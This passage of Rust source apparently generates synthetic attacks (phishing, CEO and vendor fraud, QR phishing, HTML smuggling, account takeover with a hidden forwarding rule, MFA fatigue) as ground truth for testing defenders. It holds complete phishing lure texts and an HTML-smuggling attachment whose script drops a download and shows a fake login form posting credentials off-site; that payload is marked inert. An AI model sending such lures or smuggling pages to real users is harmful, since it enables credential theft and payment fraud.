//! The injected attacks. Each becomes timed events after the anchor plus a [`ScenarioTruth`]
//! saying what a perfect defender would find and undo.
//!
//! Base layout (ms after the anchor, multiplied by `attack_time_scale`):
//! cred-phish-1 2.0 s / 2.6 s, ceo-fraud-1 8 s, vendor-fraud-1 14 s, qr-phish-1 20 s,
//! html-smuggling-1 26 s, ato-1 30–48 s (spray, IMAP sign-in, mail sync, rule, MFA method,
//! internal phish, consent), mfa-fatigue-1 50–57 s.

use std::collections::BTreeMap;

use base64::Engine as _;
use chrono::{DateTime, Duration, Utc};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::company::{Company, Role, random_iban};
use crate::geo::{InfraKind, foreign};
use crate::identity::{
    self, Directory, Mfa, SignIn, directory_audit, modified, target_user, ual, ual_logon,
    user_actor,
};
use crate::mail::{InvoiceRef, addr_of, html_of, invoice_lines};
use crate::mime::{Addr, Attachment, Dmarc, Mail, Spf, Transport, Verdict, pdf};
use crate::rng::Rng;
use crate::transport::{
    Sender, gmail_msgid, outlook_msgid, render_inbound, unauthenticated_lookalike, via_google,
};
use crate::{ScenarioConfig, ScenarioTruth, TimedAction, TimedEvent};

pub(crate) struct Injected {
    pub events: Vec<TimedEvent>,
    pub truths: Vec<ScenarioTruth>,
}

struct Ctx<'a> {
    c: &'a Company,
    dir: &'a Directory,
    cfg: &'a ScenarioConfig,
    rng: Rng,
    events: Vec<TimedEvent>,
}

impl Ctx<'_> {
    fn at(&self, base_ms: u64) -> u64 {
        (base_ms as f64 * self.cfg.attack_time_scale.max(0.0)).round() as u64
    }
    fn when(&self, off: u64) -> DateTime<Utc> {
        self.cfg.anchor + Duration::milliseconds(off as i64)
    }
    fn push(&mut self, off: u64, id: &str, action: TimedAction) {
        self.events.push(TimedEvent {
            offset_ms: off,
            scenario: Some(id.to_string()),
            action,
        });
    }
    fn audit(&mut self, off: u64, id: &str, action: TimedAction) {
        if self.cfg.explicit_audit_events {
            self.push(off, id, action);
        }
    }
    fn deliver(&mut self, off: u64, id: &str, m: &Mail, s: &Sender, recipients: &[usize]) {
        let r = render_inbound(self.c, &mut self.rng, m, &s.transport());
        let ids = recipients
            .iter()
            .map(|&u| self.c.people[u].id.clone())
            .collect();
        self.push(
            off,
            id,
            TimedAction::DeliverMessage {
                recipients: ids,
                folder: "inbox".into(),
                mime: r.inbound,
            },
        );
    }
    fn ids(&self, v: &[usize]) -> Vec<String> {
        v.iter().map(|&u| self.c.people[u].id.clone()).collect()
    }
}

#[allow(clippy::too_many_arguments)]
fn mail(
    from: Addr,
    to: Vec<Addr>,
    subject: String,
    date: DateTime<Utc>,
    message_id: String,
    text: String,
    html: Option<String>,
    nmid: String,
) -> Mail {
    Mail {
        from,
        to,
        cc: vec![],
        reply_to: None,
        subject,
        date,
        tz_min: 0,
        message_id,
        in_reply_to: None,
        references: vec![],
        text,
        html,
        calendar: None,
        attachments: vec![],
        list_unsubscribe: None,
        importance_high: false,
        network_message_id: nmid,
    }
}

fn art(pairs: &[(&str, Vec<String>)]) -> BTreeMap<String, Vec<String>> {
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.clone()))
        .collect()
}

/// A one-edit lookalike of `domain` (doubled letter, swapped letters, or a confusable).
pub(crate) fn lookalike(rng: &mut Rng, domain: &str) -> String {
    let (stem, tld) = domain.split_once('.').unwrap_or((domain, "com"));
    let chars: Vec<char> = stem.chars().collect();
    for _ in 0..20 {
        let i = 1 + rng.below(chars.len().saturating_sub(2).max(1));
        let mut v = chars.clone();
        match rng.below(4) {
            0 => v.insert(i, v[i.min(v.len() - 1)]),
            1 if i + 1 < v.len() => v.swap(i, i + 1),
            2 => {
                if let Some(p) = v.iter().position(|&c| c == 'l' || c == 'i' || c == 'o') {
                    v[p] = match v[p] {
                        'l' => 'i',
                        'i' => 'l',
                        _ => '0',
                    };
                } else {
                    v.remove(i);
                }
            }
            _ => {
                v.remove(i);
            }
        }
        let s: String = v.into_iter().collect();
        if s != stem && s.len() > 2 {
            return format!("{s}.{tld}");
        }
    }
    format!("{stem}-invoices.{tld}")
}

/// A QR code PNG for `url`.
pub(crate) fn qr_png(url: &str) -> Option<Vec<u8>> {
    use image::ImageEncoder as _;
    let code = qrcode::QrCode::new(url.as_bytes()).ok()?;
    let img = code
        .render::<image::Luma<u8>>()
        .module_dimensions(6, 6)
        .quiet_zone(true)
        .build();
    let mut buf = Vec::new();
    image::codecs::png::PngEncoder::new(&mut buf)
        .write_image(
            img.as_raw(),
            img.width(),
            img.height(),
            image::ExtendedColorType::L8,
        )
        .ok()?;
    Some(buf)
}

fn sign_in_event(cx: &mut Ctx, off: u64, id: &str, u: usize, s: &SignIn) -> Value {
    let p = &cx.c.people[u];
    let si = identity::sign_in_json(p, s, cx.dir, &mut cx.rng);
    cx.push(
        off,
        id,
        TimedAction::SignIn {
            sign_in: si.clone(),
        },
    );
    let rec = ual_logon(&mut cx.rng, cx.c, p, &si, s.when);
    cx.audit(off + 1, id, TimedAction::UnifiedAudit { record: rec });
    si
}

pub(crate) fn inject(
    c: &Company,
    dir: &Directory,
    cfg: &ScenarioConfig,
    invoices: &[InvoiceRef],
) -> Injected {
    let mut cx = Ctx {
        c,
        dir,
        cfg,
        rng: Rng::new(cfg.seed, "attacks"),
        events: Vec::new(),
    };
    let n = c.people.len();
    // Targets come from a shuffled pool of ordinary staff; leadership and AP are targeted
    // by the BEC scenarios specifically.
    let special = [c.ceo, c.cfo, c.it_admin, c.finance_head];
    let mut pool: Vec<usize> = (0..n)
        .filter(|i| {
            !special.contains(i) && c.people[*i].enabled && c.people[*i].role != Role::ApClerk
        })
        .collect();
    cx.rng.shuffle(&mut pool);
    if pool.is_empty() {
        pool.push(n - 1);
    }
    let pk = |k: usize| pool[k % pool.len()];
    let cred_n = ((n as f64 * 0.3).ceil() as usize)
        .max(10)
        .min((pool.len() * 6 / 10).max(1));
    let mut truths = Vec::new();

    // 1. Credential phishing campaign from a lookalike login domain.
    {
        let id = "cred-phish-1";
        let recipients: Vec<usize> = pool.iter().copied().take(cred_n).collect();
        let domain = cx
            .rng
            .pick(&[
                "micros0ft-secure-login.com",
                "rnicrosoft-account-verify.com",
                "microsoft-0365-support.com",
                "office365-passwordreset.com",
                "login-microsoftonline-sso.com",
            ])
            .to_string();
        let infra = foreign(InfraKind::Hosting, c.country.code);
        let place = infra[cx.rng.below(infra.len())];
        let s = unauthenticated_lookalike(&mut cx.rng, &place.block, &domain, place.country);
        let token = cx.rng.alnum(32);
        let url = format!(
            "https://login.{domain}/common/oauth2/authorize?client_id=00000002-0000-0ff1-ce00-000000000000&sso_reload=true&t={token}"
        );
        let off = cx.at(2_000);
        let text = format!(
            "Microsoft 365\n\nYour password for {} expires today.\n\nTo keep using your current password, confirm your account within 24 hours. After that you will be signed out of Outlook, Teams and OneDrive.\n\nKeep current password: {url}\n\nMicrosoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n",
            c.domain
        );
        let html = format!(
            "<html><body style=\"font-family:Segoe UI,Arial\"><img src=\"https://login.{domain}/assets/ms-logo.png\" alt=\"Microsoft\" width=\"108\"><h2>Your password expires today</h2><p>Your password for <b>{}</b> expires today.</p><p>To keep using your current password, confirm your account within 24 hours. After that you will be signed out of Outlook, Teams and OneDrive.</p><p><a href=\"{url}\" style=\"background:#0067b8;color:#ffffff;padding:10px 20px;text-decoration:none\">Keep current password</a></p><p style=\"font-size:11px;color:#666\">Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></body></html>\n",
            c.domain
        );
        let msgid = format!("<{}@{domain}>", cx.rng.guid());
        let from = Addr::new("Microsoft 365 Security", format!("no-reply@{domain}"));
        let mut m = mail(
            from.clone(),
            vec![Addr::new("undisclosed-recipients:;", "")],
            "Action required: your password expires today".into(),
            cx.when(off),
            msgid.clone(),
            text,
            Some(html),
            cx.rng.guid(),
        );
        m.importance_high = true;
        let half = recipients.len().div_ceil(2);
        cx.deliver(off, id, &m, &s, &recipients[..half]);
        if half < recipients.len() {
            let off2 = cx.at(2_600);
            cx.deliver(off2, id, &m, &s, &recipients[half..]);
        }
        truths.push(ScenarioTruth {
            id: id.into(),
            kind: "credential_phishing".into(),
            description: format!("Password-expiry lure from lookalike {domain} (Microsoft-branded display name, no DKIM/DMARC, compauth fail) to {} users, linking to a credential page on the lookalike domain.", recipients.len()),
            target_users: cx.ids(&recipients),
            internet_message_ids: vec![msgid],
            start_offset_ms: off,
            artifacts: art(&[("sender_addresses", vec![from.address.clone()]), ("sender_domains", vec![domain.clone()]), ("sender_ips", vec![s.ip.clone()]), ("urls", vec![url])]),
        });
    }

    // 2. CEO fraud from a freemail account with the CEO's display name.
    {
        let id = "ceo-fraud-1";
        let ceo = &c.people[c.ceo];
        let targets = vec![c.cfo, c.finance_head];
        let local = format!(
            "{}.{}.{}",
            ceo.given.to_ascii_lowercase(),
            ceo.surname.to_ascii_lowercase(),
            cx.rng.pick(&["office", "exec", "private", "ceo"])
        );
        let from = Addr::new(
            ceo.display.clone(),
            format!("{local}{}@gmail.com", cx.rng.digits(2)),
        );
        let reply_to = Addr::new(
            ceo.display.clone(),
            format!(
                "{}{}.{}@outlook.com",
                &ceo.given[..1].to_ascii_lowercase(),
                ceo.surname.to_ascii_lowercase(),
                cx.rng.digits(3)
            ),
        );
        let s = via_google(&mut cx.rng, &from.address, "gmail.com");
        let off = cx.at(8_000);
        let cfo = &c.people[c.cfo];
        let text = format!(
            "{},\n\nAre you at your desk? I need you to handle an urgent and confidential wire transfer today for an acquisition we are closing. Please do not discuss this with anyone else in the office until it is announced.\n\nReply to me here with your availability and I will send the beneficiary details. If the wire can't go out today, I need 10 Apple gift cards ($500 each) for a client instead - scratch the back and send me photos of the codes.\n\nThanks,\n{}\n\nSent from my iPhone\n",
            cfo.given, ceo.given
        );
        let msgid = gmail_msgid(&mut cx.rng);
        let mut m = mail(
            from.clone(),
            targets.iter().map(|&u| addr_of(&c.people[u])).collect(),
            "Urgent - confidential request".into(),
            cx.when(off),
            msgid.clone(),
            text,
            None,
            cx.rng.guid(),
        );
        m.reply_to = Some(reply_to.clone());
        m.importance_high = true;
        cx.deliver(off, id, &m, &s, &targets);
        truths.push(ScenarioTruth {
            id: id.into(),
            kind: "ceo_fraud".into(),
            description: format!("Freemail sender using CEO {}'s display name asks the CFO/finance for an urgent confidential wire (or gift cards); Reply-To points to another freemail; no link.", ceo.display),
            target_users: cx.ids(&targets),
            internet_message_ids: vec![msgid],
            start_offset_ms: off,
            artifacts: art(&[("sender_addresses", vec![from.address.clone()]), ("reply_to", vec![reply_to.address.clone()]), ("impersonated_users", vec![ceo.id.clone()]), ("sender_ips", vec![s.ip.clone()])]),
        });
    }

    // 3. Vendor fraud: lookalike of a real vendor domain, in the invoice thread, new IBAN.
    {
        let id = "vendor-fraud-1";
        let inv = invoices
            .iter()
            .rev()
            .find(|i| c.people[i.recipient].role == Role::ApClerk)
            .or(invoices.last())
            .cloned();
        let (vi, recipient, subject, number, amount, thread) = match inv {
            Some(i) => (
                i.vendor,
                i.recipient,
                i.subject.clone(),
                i.number.clone(),
                i.amount.clone(),
                Some(i.message_id.clone()),
            ),
            None => {
                let v = &c.vendors[0];
                (
                    0,
                    c.ap_clerks.first().copied().unwrap_or(c.finance_head),
                    format!("Invoice {}10422 from {}", v.invoice_prefix, v.name),
                    format!("{}10422", v.invoice_prefix),
                    "EUR 8,420.00".to_string(),
                    None,
                )
            }
        };
        let v = &c.vendors[vi];
        let fake = lookalike(&mut cx.rng, &v.domain);
        let local = v.contact.split('@').next().unwrap_or("accounts");
        let from = Addr::new(v.contact_name.clone(), format!("{local}@{fake}"));
        let s = via_google(&mut cx.rng, &from.address, &fake);
        let new_iban = random_iban(&mut cx.rng, "LT");
        let off = cx.at(14_000);
        let when = cx.when(off);
        let due = (when + Duration::days(3)).format("%Y-%m-%d").to_string();
        let text = format!(
            "Hi {},\n\nFollowing our bank's merger we have moved our accounts. Please update our remittance details before paying invoice {number} ({amount}) - payments to the old account will be returned.\n\nNew bank details:\nAccount name: {}\nIBAN: {new_iban}\nBIC: REVOLT21\n\nThe updated letter is attached. Kindly confirm once the change is done, and let me know when the payment is scheduled.\n\nKind regards,\n{}\nAccounts Receivable | {}\n",
            c.people[recipient].given, v.name, v.contact_name, v.name
        );
        let letter = pdf(
            "Change of bank details",
            &invoice_lines(&v.name, &number, &amount, &due, &new_iban),
        );
        let msgid = gmail_msgid(&mut cx.rng);
        let mut m = mail(
            from.clone(),
            vec![addr_of(&c.people[recipient])],
            format!("RE: {subject}"),
            when,
            msgid.clone(),
            text.clone(),
            Some(html_of(&text)),
            cx.rng.guid(),
        );
        if let Some(t) = &thread {
            m.in_reply_to = Some(t.clone());
            m.references = vec![t.clone()];
        }
        m.attachments.push(Attachment {
            name: "Updated_bank_details.pdf".into(),
            content_type: "application/pdf".into(),
            data: letter,
            content_id: None,
        });
        cx.deliver(off, id, &m, &s, &[recipient]);
        truths.push(ScenarioTruth {
            id: id.into(),
            kind: "vendor_fraud".into(),
            description: format!("Lookalike {fake} of partner {} replies in the invoice thread asking AP to change bank details to a new IBAN.", v.domain),
            target_users: cx.ids(&[recipient]),
            internet_message_ids: vec![msgid],
            start_offset_ms: off,
            artifacts: art(&[("sender_addresses", vec![from.address.clone()]), ("sender_domains", vec![fake.clone()]), ("impersonated_domains", vec![v.domain.clone()]), ("iban", vec![new_iban]), ("sender_ips", vec![s.ip.clone()])]),
        });
    }

    // 4. QR phishing: an image that encodes the phishing URL, very little text.
    {
        let id = "qr-phish-1";
        let targets: Vec<usize> = (3..6)
            .map(pk)
            .collect::<std::collections::BTreeSet<_>>()
            .into_iter()
            .collect();
        let stem = c.domain.split('.').next().unwrap_or("corp");
        let domain = format!("{stem}-mfa-portal.{}", cx.rng.pick(&["com", "net", "io"]));
        let url = format!("https://{domain}/mfa/revalidate?e={}", cx.rng.alnum(20));
        let infra = foreign(InfraKind::Hosting, c.country.code);
        let place = infra[cx.rng.below(infra.len())];
        let mut s = unauthenticated_lookalike(&mut cx.rng, &place.block, &domain, place.country);
        s.verdict = Verdict {
            spf: Spf::SoftFail,
            dkim: None,
            dkim_pass: false,
            dmarc: Dmarc::None,
            dmarc_action: "none",
            compauth: "softfail",
            reason: "001",
            scl: 1,
            bcl: 0,
            cat: "NONE",
        };
        let off = cx.at(20_000);
        let cid = format!("image001.png@01DA{}", cx.rng.hex_upper(12));
        let html = format!(
            "<html><body><p>Your multi-factor authentication expires today.</p><p><img src=\"cid:{cid}\" width=\"240\" height=\"240\" alt=\"\"></p><p>Scan to re-validate your MFA.</p><p>{} IT Service Desk</p></body></html>\n",
            c.name
        );
        let text = format!(
            "Your multi-factor authentication expires today.\n\nScan to re-validate your MFA.\n\n{} IT Service Desk\n",
            c.name
        );
        let msgid = format!("<{}@{domain}>", cx.rng.alnum(24));
        let mut m = mail(
            Addr::new(
                format!("{} IT Service Desk", c.name),
                format!("servicedesk@{domain}"),
            ),
            targets.iter().map(|&u| addr_of(&c.people[u])).collect(),
            "MFA re-validation required".into(),
            cx.when(off),
            msgid.clone(),
            text,
            Some(html),
            cx.rng.guid(),
        );
        let png = qr_png(&url).unwrap_or_default();
        let sha = hex::encode(Sha256::digest(&png));
        m.attachments.push(Attachment {
            name: "image001.png".into(),
            content_type: "image/png".into(),
            data: png,
            content_id: Some(cid),
        });
        cx.deliver(off, id, &m, &s, &targets);
        truths.push(ScenarioTruth {
            id: id.into(),
            kind: "qr_phishing".into(),
            description: "Inline QR code (PNG) encoding a credential-phishing URL; almost no text (\"scan to re-validate your MFA\").".into(),
            target_users: cx.ids(&targets),
            internet_message_ids: vec![msgid],
            start_offset_ms: off,
            artifacts: art(&[("urls", vec![url]), ("sender_domains", vec![domain.clone()]), ("sender_ips", vec![s.ip.clone()]), ("attachment_sha256", vec![sha])]),
        });
    }

    // 5. HTML smuggling: an HTML attachment that assembles a payload and offers a fake login.
    {
        let id = "html-smuggling-1";
        let targets: Vec<usize> = (6..9)
            .map(pk)
            .collect::<std::collections::BTreeSet<_>>()
            .into_iter()
            .collect();
        let domain = format!(
            "remittance-{}.com",
            cx.rng.pick(&["portal", "notice", "center", "docs"])
        );
        let infra = foreign(InfraKind::Hosting, c.country.code);
        let place = infra[cx.rng.below(infra.len())];
        let mut s = unauthenticated_lookalike(&mut cx.rng, &place.block, &domain, place.country);
        s.verdict = Verdict {
            spf: Spf::Fail,
            dkim: None,
            dkim_pass: false,
            dmarc: Dmarc::Fail,
            dmarc_action: "none",
            compauth: "fail",
            reason: "000",
            scl: 1,
            bcl: 0,
            cat: "NONE",
        };
        let off = cx.at(26_000);
        let ref_no = cx.rng.digits(6);
        let post = format!("https://{domain}/owa/auth.php");
        // The payload is inert: an "MZ" stub, never a working executable.
        let mut payload = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
        payload.extend(cx.rng.bytes(512));
        let blob = base64::engine::general_purpose::STANDARD.encode(&payload);
        let attach = format!(
            "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Remittance Advice</title></head>\n<body style=\"font-family:Segoe UI,Arial\">\n<div id=\"m\"><h3>Loading secure document...</h3></div>\n<form id=\"f\" action=\"{post}\" method=\"POST\" style=\"display:none\">\n<p>Sign in to view the remittance advice</p>\n<input type=\"email\" name=\"login\" placeholder=\"Email\">\n<input type=\"password\" name=\"passwd\" placeholder=\"Password\">\n<button type=\"submit\">Sign in</button>\n</form>\n<script>\nvar p = \"{blob}\";\nvar s = window.atob(p); var b = new Uint8Array(s.length);\nfor (var i = 0; i < s.length; i++) {{ b[i] = s.charCodeAt(i); }}\nvar f = new Blob([b], {{type: 'application/octet-stream'}});\nvar a = document.createElement('a'); a.href = window.URL.createObjectURL(f);\na.download = 'Remittance_{ref_no}.iso'; document.body.appendChild(a); a.click();\ndocument.getElementById('f').style.display = 'block';\n</script>\n</body></html>\n"
        );
        let name = format!("Remittance_Advice_{ref_no}.html");
        let sha = hex::encode(Sha256::digest(attach.as_bytes()));
        let text = format!(
            "Hello,\n\nPlease find the remittance advice for payment {ref_no} attached. Open the document in your browser to view it.\n\nAccounts Department\n"
        );
        let msgid = format!("<{}.{}@{domain}>", cx.rng.digits(10), cx.rng.alnum(12));
        let mut m = mail(
            Addr::new("Accounts Department", format!("payments@{domain}")),
            targets.iter().map(|&u| addr_of(&c.people[u])).collect(),
            format!("Remittance Advice - Payment {ref_no}"),
            cx.when(off),
            msgid.clone(),
            text,
            None,
            cx.rng.guid(),
        );
        m.attachments.push(Attachment {
            name: name.clone(),
            content_type: "text/html".into(),
            data: attach.into_bytes(),
            content_id: None,
        });
        cx.deliver(off, id, &m, &s, &targets);
        truths.push(ScenarioTruth {
            id: id.into(),
            kind: "html_smuggling".into(),
            description: "HTML attachment whose script decodes a base64 blob into a download (Remittance_*.iso) and shows a fake sign-in form posting credentials off-site.".into(),
            target_users: cx.ids(&targets),
            internet_message_ids: vec![msgid],
            start_offset_ms: off,
            artifacts: art(&[("attachment_names", vec![name]), ("attachment_sha256", vec![sha]), ("sender_domains", vec![domain.clone()]), ("urls", vec![post]), ("sender_ips", vec![s.ip.clone()])]),
        });
    }

    // 6. Account takeover chain.
    truths.push(account_takeover(&mut cx, &pool, cred_n));

    // 7. MFA fatigue.
    {
        let id = "mfa-fatigue-1";
        let u = pk(2);
        let infra = foreign(InfraKind::Vpn, c.country.code);
        let place = infra[cx.rng.below(infra.len())];
        let ip = place.block.host(&mut cx.rng);
        let start = cx.at(50_000);
        let denials = 6u64;
        let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
        for k in 0..=denials {
            let off = start + cx.at(1_000) * k;
            let approved = k == denials;
            let s = SignIn {
                when: cx.when(off),
                ip: ip.clone(),
                asn: place.block.asn,
                city: &place.city,
                country: place.country,
                app: identity::INTERACTIVE_APPS[1],
                device: None,
                user_agent: ua,
                error_code: if approved { 0 } else { 500121 },
                failure_reason: if approved {
                    None
                } else {
                    Some("Authentication failed during strong authentication request.")
                },
                additional: if approved {
                    None
                } else {
                    Some("MFA denied; user declined the authentication")
                },
                mfa: if approved {
                    Mfa::Performed
                } else {
                    Mfa::Denied
                },
                protocol: "none",
                risk: if approved { "medium" } else { "none" },
            };
            sign_in_event(&mut cx, off, id, u, &s);
        }
        truths.push(ScenarioTruth {
            id: id.into(),
            kind: "mfa_fatigue".into(),
            description: format!(
                "{denials} MFA push denials (500121) from a foreign VPN address, then an approval."
            ),
            target_users: cx.ids(&[u]),
            internet_message_ids: vec![],
            start_offset_ms: start,
            artifacts: art(&[
                ("attacker_ips", vec![ip]),
                ("compromised_users", cx.ids(&[u])),
            ]),
        });
    }

    Injected {
        events: cx.events,
        truths,
    }
}

fn account_takeover(cx: &mut Ctx, pool: &[usize], cred_n: usize) -> ScenarioTruth {
    let id = "ato-1";
    let c = cx.c;
    let pk = |k: usize| pool[k % pool.len()];
    let victim = pk(1);
    let vp = &c.people[victim];
    let spray_n = (c.people.len() / 5)
        .clamp(10, 40)
        .min(cred_n.max(2))
        .min(pool.len());
    let mut sprayed: Vec<usize> = pool.iter().copied().take(spray_n).collect();
    if !sprayed.contains(&victim) {
        sprayed.push(victim);
    }
    let vpn = foreign(InfraKind::Vpn, c.country.code);
    let spray_place = vpn[cx.rng.below(vpn.len())];
    let spray_ip = spray_place.block.host(&mut cx.rng);
    let hosting = foreign(InfraKind::Hosting, c.country.code);
    let imap_place = hosting[cx.rng.below(hosting.len())];
    let imap_ip = imap_place.block.host(&mut cx.rng);
    let start = cx.at(30_000);

    // Spray: one address, one bad password per user; the victim's password is right (MFA
    // then blocks the interactive flow, so the attacker turns to IMAP).
    let ps_app = (
        "1b730954-1685-4b74-9bfd-dac224a7b894",
        "Azure Active Directory PowerShell",
        "00000002-0000-0000-c000-000000000000",
        "Windows Azure Active Directory",
        "Mobile Apps and Desktop clients",
    );
    for (k, &u) in sprayed.iter().enumerate() {
        let off = start + cx.at(3_400) * k as u64 / sprayed.len() as u64;
        let hit = u == victim;
        let s = SignIn {
            when: cx.when(off),
            ip: spray_ip.clone(),
            asn: spray_place.block.asn,
            city: &spray_place.city,
            country: spray_place.country,
            app: ps_app,
            device: None,
            user_agent: "python-requests/2.31.0",
            error_code: if hit { 50076 } else { 50126 },
            failure_reason: Some(if hit {
                "Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication to access."
            } else {
                "Error validating credentials due to invalid username or password."
            }),
            additional: None,
            mfa: Mfa::None,
            protocol: "ropc",
            risk: "none",
        };
        sign_in_event(cx, off, id, u, &s);
    }

    // Legacy IMAP sign-in from a hosting ASN abroad: single factor, report-only CA.
    let off = cx.at(36_000);
    let exo_app = (
        identity::EXO_APP_ID,
        "Office 365 Exchange Online",
        identity::EXO_APP_ID,
        "Office 365 Exchange Online",
        "IMAP4",
    );
    let s = SignIn {
        when: cx.when(off),
        ip: imap_ip.clone(),
        asn: imap_place.block.asn,
        city: &imap_place.city,
        country: imap_place.country,
        app: exo_app,
        device: None,
        user_agent: "BAV2ROPC",
        error_code: 0,
        failure_reason: None,
        additional: None,
        mfa: Mfa::None,
        protocol: "ropc",
        risk: "none",
    };
    sign_in_event(cx, off, id, victim, &s);
    let session = cx.rng.guid();
    let t = cx.when(cx.at(37_000));
    let mbx_guid = cx.rng.guid();
    let folder_id = cx.rng.hex_upper(46);
    let rec = ual(
        &mut cx.rng,
        c,
        t,
        50,
        "Exchange",
        "MailItemsAccessed",
        &vp.upn,
        &vp.id,
        0,
        Some(&imap_ip),
        &vp.upn,
        "Succeeded",
        json!({
            "LogonType": 0, "InternalLogonType": 0, "MailboxOwnerUPN": vp.upn, "MailboxGuid": mbx_guid,
            "ClientInfoString": "Client=IMAP4;Protocol=IMAP4", "ClientIPAddress": imap_ip, "SessionId": session,
            "OperationProperties": [{"Name": "MailAccessType", "Value": "Sync"}, {"Name": "IsThrottled", "Value": "False"}],
            "OperationCount": 1, "Folders": [{"Id": folder_id, "Path": "\\Inbox"}],
        }),
    );
    cx.audit(cx.at(37_000), id, TimedAction::UnifiedAudit { record: rec });

    // Inbox rule: forward payment mail out, delete it from the inbox, name ".".
    let fwd = format!(
        "{}.{}{}@{}",
        vp.given.to_ascii_lowercase(),
        vp.surname.to_ascii_lowercase(),
        cx.rng.digits(2),
        cx.rng.pick(&["protonmail.com", "gmx.com", "mail.com"])
    );
    let keywords = [
        "invoice",
        "payment",
        "wire",
        "bank",
        "transfer",
        "remittance",
    ];
    let rule = json!({
        "displayName": ".",
        "sequence": 1,
        "isEnabled": true,
        "hasError": false,
        "isReadOnly": false,
        "conditions": {"bodyOrSubjectContains": keywords},
        "actions": {"forwardTo": [{"emailAddress": {"name": fwd, "address": fwd}}], "delete": true, "markAsRead": true, "stopProcessingRules": true},
    });
    let off = cx.at(39_000);
    cx.push(
        off,
        id,
        TimedAction::CreateInboxRule {
            user_id: vp.id.clone(),
            rule,
        },
    );
    let t = cx.when(off);
    let client_ip = format!("{imap_ip}:{}", 40_000 + cx.rng.below(20_000));
    let rec = ual(
        &mut cx.rng,
        c,
        t,
        1,
        "Exchange",
        "New-InboxRule",
        &vp.upn,
        &vp.id,
        0,
        Some(&client_ip),
        &format!("{}\\.", vp.upn),
        "True",
        json!({
            "Parameters": [
                {"Name": "AlwaysDeleteOutlookRulesBlob", "Value": "False"},
                {"Name": "Force", "Value": "False"},
                {"Name": "Name", "Value": "."},
                {"Name": "SubjectOrBodyContainsWords", "Value": keywords.join(";")},
                {"Name": "ForwardTo", "Value": fwd},
                {"Name": "DeleteMessage", "Value": "True"},
                {"Name": "MarkAsRead", "Value": "True"},
                {"Name": "StopProcessingRules", "Value": "True"},
            ],
            "ExternalAccess": false,
            "OrganizationName": c.initial_domain,
            "OriginatingServer": c.exo.mailbox[0].split('.').next().unwrap_or(""),
            "AppId": "00000002-0000-0ff1-ce00-000000000000",
            "ClientAppId": "",
            "SessionId": session,
        }),
    );
    cx.audit(off + 5, id, TimedAction::UnifiedAudit { record: rec });

    // Attacker-controlled phone added as an MFA method.
    let (method_id, kind) = if vp.has_phone_method {
        ("b6332ec1-7057-4abe-9331-3d72feddfe41", "alternateMobile")
    } else {
        (identity::MOBILE_PHONE_METHOD_ID, "mobile")
    };
    let phone = format!("+234 80{}", cx.rng.digits(8));
    let off = cx.at(42_000);
    cx.push(
        off,
        id,
        TimedAction::AddAuthMethod {
            user_id: vp.id.clone(),
            method: identity::phone_method(&phone, method_id, kind),
        },
    );
    let t = cx.when(off);
    let mut da = directory_audit(
        &mut cx.rng,
        t,
        "User registered security info",
        "UserManagement",
        "Authentication Methods",
        "Add",
        user_actor(vp, Some(&imap_ip)),
        vec![target_user(vp, vec![])],
        &[],
    );
    da["resultReason"] = Value::from("User registered Mobile Phone SMS");
    cx.audit(off + 5, id, TimedAction::DirectoryAudit { audit: da });
    let rec = ual(
        &mut cx.rng,
        c,
        t,
        8,
        "AzureActiveDirectory",
        "User registered security info.",
        &vp.upn,
        &vp.id,
        0,
        Some(&imap_ip),
        &vp.upn,
        "Success",
        json!({
            "AzureActiveDirectoryEventType": 1,
            "Actor": [{"ID": vp.upn, "Type": 5}, {"ID": format!("User_{}", vp.id), "Type": 2}],
            "Target": [{"ID": format!("User_{}", vp.id), "Type": 2}, {"ID": vp.upn, "Type": 5}],
            "ModifiedProperties": [],
            "ExtendedProperties": [{"Name": "resultReason", "Value": "User registered Mobile Phone SMS"}],
        }),
    );
    cx.audit(off + 6, id, TimedAction::UnifiedAudit { record: rec });

    // Internal phishing from the compromised account.
    let stem = c.domain.split('.').next().unwrap_or("corp");
    let share_domain = format!("{stem}-my.sharepoint-files.com");
    let url = format!(
        "https://{share_domain}/:x:/g/personal/{}/Eb{}?e={}",
        vp.upn.replace(['.', '@'], "_"),
        cx.rng.alnum(20),
        cx.rng.alnum(6)
    );
    let mut phish_to: Vec<usize> = pool
        .iter()
        .copied()
        .take(cred_n)
        .filter(|&u| u != victim)
        .collect();
    cx.rng.shuffle(&mut phish_to);
    phish_to.truncate(4);
    let off = cx.at(45_000);
    let when = cx.when(off);
    let text = format!(
        "{} shared a file with you\n\nQ4 Payment Schedule.xlsx\n\nPlease review the updated payment schedule before Friday.\n\nOpen: {url}\n\n{}\n",
        vp.display, vp.display
    );
    let html = format!(
        "<html><body><p>{} shared a file with you</p><p><b>Q4 Payment Schedule.xlsx</b></p><p>Please review the updated payment schedule before Friday.</p><p><a href=\"{url}\">Open</a></p><p>{}</p></body></html>\n",
        vp.display, vp.display
    );
    let mbx = cx.rng.pick(&c.exo.mailbox).clone();
    let msgid = outlook_msgid(&mut cx.rng, &mbx);
    let mut m = mail(
        addr_of(vp),
        phish_to.iter().map(|&u| addr_of(&c.people[u])).collect(),
        format!("{} shared \"Q4 Payment Schedule\" with you", vp.display),
        when,
        msgid.clone(),
        text,
        Some(html),
        cx.rng.guid(),
    );
    m.tz_min = c.tz_min(vp);
    let r = render_inbound(c, &mut cx.rng, &m, &Transport::Internal);
    let recips = cx.ids(&phish_to);
    cx.push(
        off,
        id,
        TimedAction::SendMessage {
            user_id: vp.id.clone(),
            recipients: recips.clone(),
            mime: r.inbound,
        },
    );
    let item_id = cx.rng.hex_upper(40);
    let sent_id = cx.rng.hex_upper(46);
    let rec = ual(
        &mut cx.rng,
        c,
        when,
        2,
        "Exchange",
        "Send",
        &vp.upn,
        &vp.id,
        0,
        Some(&imap_ip),
        &vp.upn,
        "Succeeded",
        json!({
